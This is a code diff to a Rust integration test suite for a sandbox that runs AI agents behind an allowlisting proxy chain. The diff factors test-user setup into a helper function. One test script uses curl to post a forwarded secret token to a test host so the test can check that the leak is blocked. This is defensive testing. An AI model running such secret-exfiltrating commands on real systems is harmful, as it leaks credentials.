@@ -22,6 +22,24 @@ fn manifest(name: &str) -> String {
     )
 }
 
+/// Whether pipelock waits for the fake internet (tests that attach one) or not.
+#[derive(PartialEq)]
+enum Online {
+    Yes,
+    No,
+}
+
+/// A user whose manifest has agent `agent` in bottle `net`, and the secret value it forwards.
+fn net_user(e: &engine::Engine, agent: &str, online: Online) -> (support::Test, String) {
+    let secret = secret_value();
+    let user = if online == Online::Yes {
+        e.user_online(&manifest(agent))
+    } else {
+        e.user(&manifest(agent))
+    };
+    (user.env("BOT_BOTTLE_TEST_SECRET", &secret), secret)
+}
+
 fn assert_clean(agent: &str, test: &support::Test) {
     assert_eq!(
         leftovers(agent),
@@ -57,9 +75,7 @@ fn curl_python_and_node_reach_an_allowlisted_host_through_mitmproxy_and_pipelock
         return;
     };
     let agent = "t-tools";
-    let t = e
-        .user_online(&manifest(agent))
-        .env("BOT_BOTTLE_TEST_SECRET", &secret_value());
+    let (t, _) = net_user(&e, agent, Online::Yes);
     // The Node script travels as the shell's $0, so it needs no quoting.
     let script = "set -e
 curl -sS --max-time 30 -X POST -H 'X-Test: curl' --data-binary hello-from-curl https://allowed.test/echo; echo
@@ -137,9 +153,7 @@ fn a_host_outside_the_allowlist_gets_403_and_the_agent_sees_why() {
         return;
     };
     let agent = "t-deny";
-    let t = e
-        .user_online(&manifest(agent))
-        .env("BOT_BOTTLE_TEST_SECRET", &secret_value());
+    let (t, _) = net_user(&e, agent, Online::Yes);
     let bottle = Bottle::spawn(
         &t,
         &[
@@ -184,10 +198,7 @@ fn a_forwarded_secret_sent_to_an_allowlisted_host_is_blocked() {
         return;
     };
     let agent = "t-leak";
-    let secret = secret_value();
-    let t = e
-        .user_online(&manifest(agent))
-        .env("BOT_BOTTLE_TEST_SECRET", &secret);
+    let (t, secret) = net_user(&e, agent, Online::Yes);
     let script = r#"test -n "$LEAK_TOKEN" || { echo no secret in the agent; exit 9; }
 curl -sS --max-time 30 -D - --data-binary "token=$LEAK_TOKEN" https://allowed.test/echo"#;
     let bottle = Bottle::spawn(&t, &["run", agent, "--", "sh", "-c", script]);
@@ -213,10 +224,7 @@ fn nothing_leaves_the_agent_but_the_proxy_chain_and_no_secret_or_key_is_exposed(
         return;
     };
     let agent = "t-isolated";
-    let secret = secret_value();
-    let t = e
-        .user_online(&manifest(agent))
-        .env("BOT_BOTTLE_TEST_SECRET", &secret);
+    let (t, secret) = net_user(&e, agent, Online::Yes);
     let mut bottle = Bottle::spawn(&t, &["run", "-v", agent, "--", "sleep", "120"]);
     let net = Internet::attach(&e, agent);
     let attach = bottle.wait_for("[6/7] attach to ", T);
@@ -473,9 +481,7 @@ fn sigint_at_every_launch_step_and_sighup_leave_nothing_behind() {
         "[5/7] provision ca",
         "[6/7] attach",
     ] {
-        let t = e
-            .user(&manifest(agent))
-            .env("BOT_BOTTLE_TEST_SECRET", &secret_value());
+        let (t, _) = net_user(&e, agent, Online::No);
         let mut bottle = Bottle::spawn(&t, &["run", agent, "--", "sleep", "120"]);
         bottle.wait_for(marker, T);
         bottle.signal(libc::SIGINT);
@@ -485,9 +491,7 @@ fn sigint_at_every_launch_step_and_sighup_leave_nothing_behind() {
         assert_clean(agent, &t);
     }
     // A closed terminal (SIGHUP) while the sidecars start ends the same way.
-    let t = e
-        .user(&manifest(agent))
-        .env("BOT_BOTTLE_TEST_SECRET", &secret_value());
+    let (t, _) = net_user(&e, agent, Online::No);
     let mut bottle = Bottle::spawn(&t, &["run", agent, "--", "sleep", "120"]);
     bottle.wait_for("[3/7] pipelock and mitmproxy", T);
     bottle.signal(libc::SIGHUP);
@@ -503,9 +507,7 @@ fn a_failed_step_tears_down_what_was_started() {
         return;
     };
     let agent = "t-fail";
-    let t = e
-        .user(&manifest(agent))
-        .env("BOT_BOTTLE_TEST_SECRET", &secret_value());
+    let (t, _) = net_user(&e, agent, Online::No);
     // The agent image has no mitmdump: the mitmproxy container cannot start.
     let wrong = e.images["BOT_BOTTLE_AGENT_IMAGE"].clone();
     let run = t.run(&["run", "--mitmproxy-image", &wrong, agent, "--", "true"]);
@@ -525,9 +527,7 @@ fn cleanup_removes_what_a_sigkilled_run_left() {
         return;
     };
     let agent = "t-killed";
-    let t = e
-        .user(&manifest(agent))
-        .env("BOT_BOTTLE_TEST_SECRET", &secret_value());
+    let (t, _) = net_user(&e, agent, Online::No);
     let mut bottle = Bottle::spawn(&t, &["run", agent, "--", "sleep", "120"]);
     bottle.wait_for("[6/7] attach", T);
     bottle.signal(libc::SIGKILL);
@@ -569,9 +569,7 @@ fn two_runs_of_one_agent_coexist_and_a_pinned_name_in_use_fails_clearly() {
         return;
     };
     let agent = "t-twice";
-    let t = e
-        .user(&manifest(agent))
-        .env("BOT_BOTTLE_TEST_SECRET", &secret_value());
+    let (t, _) = net_user(&e, agent, Online::No);
     let a = Bottle::spawn(&t, &["run", agent, "--", "sh", "-c", "sleep 3; hostname"]);
     let b = Bottle::spawn(&t, &["run", agent, "--", "sh", "-c", "sleep 3; hostname"]);
     let (code_a, out_a, err_a) = a.finish(T);
@@ -625,9 +623,7 @@ fn bottle_exits_with_the_command_exit_code_and_provisions_prompt_skills_and_lite
         return;
     };
     let agent = "t-exit";
-    let t = e
-        .user(&manifest(agent))
-        .env("BOT_BOTTLE_TEST_SECRET", &secret_value());
+    let (t, _) = net_user(&e, agent, Online::No);
     let run = t.run(&["run", "-q", agent, "--", "sh", "-c", "exit 42"]);
     assert_eq!(run.code, 42, "{}", run.stderr);
     assert!(
@@ -663,9 +659,7 @@ fn bottle_exits_with_the_command_exit_code_and_provisions_prompt_skills_and_lite
     assert_clean("t-prompt", &t);
 
     let agent = "t-literal";
-    let t = e
-        .user(&manifest(agent))
-        .env("BOT_BOTTLE_TEST_SECRET", &secret_value());
+    let (t, _) = net_user(&e, agent, Online::No);
     let run = t.run(&["run", agent, "--", "sh", "-c", "echo \"LOG=$LOG_LEVEL\""]);
     assert_eq!(run.code, 0, "{}", run.stderr);
     assert!(run.stdout.contains("LOG=debug-literal"), "{}", run.stdout);
@@ -694,9 +688,7 @@ fn cwd_copies_the_working_directory_into_a_derived_image_that_teardown_removes()
         return;
     };
     let agent = "t-cwd";
-    let t = e
-        .user(&manifest(agent))
-        .env("BOT_BOTTLE_TEST_SECRET", &secret_value());
+    let (t, _) = net_user(&e, agent, Online::No);
     std::fs::write(t.work().join("marker.txt"), "copied from the host\n").unwrap();
     let run = t.run(&[
         "run",
